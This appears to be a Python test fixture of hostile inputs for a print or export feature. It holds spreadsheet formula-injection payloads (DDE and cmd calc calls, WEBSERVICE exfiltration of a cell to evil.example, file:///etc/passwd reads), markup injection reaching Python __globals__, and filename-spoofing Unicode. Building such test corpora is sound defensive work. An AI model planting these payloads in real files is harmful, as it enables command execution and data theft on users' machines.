"""Texts that PCs could send to be printed: formulas, links, markup, signs that turn lines, and very much of anything."""

from __future__ import annotations

from itertools import product

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    '"=',
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "\u200b=",
    "\ufeff=",
    "=\u200d",
    "(=",
)
ENDS = (
    "1+1", "HYPERLINK(\"http://evil.example\",\"click\")", "cmd|' /C calc'!A0", "WEBSERVICE(\"http://evil.example/\"&A1)", "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(A1:A9)", "IMPORTXML(\"http://evil.example\",\"//a\")", "EXEC(\"calc\")", "10+20+cmd|' /C calc'!A0", "INDIRECT(\"'file:///etc/passwd'#A1\")",
)  # fmt: skip
FORMULAS = tuple(start + end for start, end in product(STARTS, ENDS))
MARKUP = (
    "<b>bold</b>", "<font color='red'>x</font>", "<img src='file:///etc/passwd'/>", "<a href='http://evil.example'>x</a>", "<para>", "</para>",
    "<onDraw name='x' label='y'/>", "<font color='[[[getattr(pow, Word(\"__globals__\"))]]]'>x</font>", "&amp;&#x41;&nbsp;&bogus;", "<!-- -->", "]]>", "{name} {0} %s %(x)s",
    "\u202egpj.exe\u202c", "\u2066\u2067x", "a\u0000b\u0001c\u001f", "\ud800 alone", "\ufffe\uffff", "👩‍💻🏳️‍🌈🧑🏽", "日本語のタイトル 中文标题 한국어", "שלום مرحبا", "Z͑̀a̴l̸g̷o̵" * 20,
    "क्षत्रिय श्रीमती ज्ञान", "সুপ্রিয়া ক্ষমা জ্ঞান", "x" * 40_000, "a b " * 10_000, "ﬁne", "́", " ", "", "C:\\Users\\asha\\=x.xlsx", "file:///etc/passwd", "\\\\server\\share",
    "$x^2$ \\frac", "’“”–…₹€≈▲", "\u00a0\u2028\u2029", "१२३ ১২৩",
)  # fmt: skip
EVERYTHING = (*FORMULAS, *MARKUP)
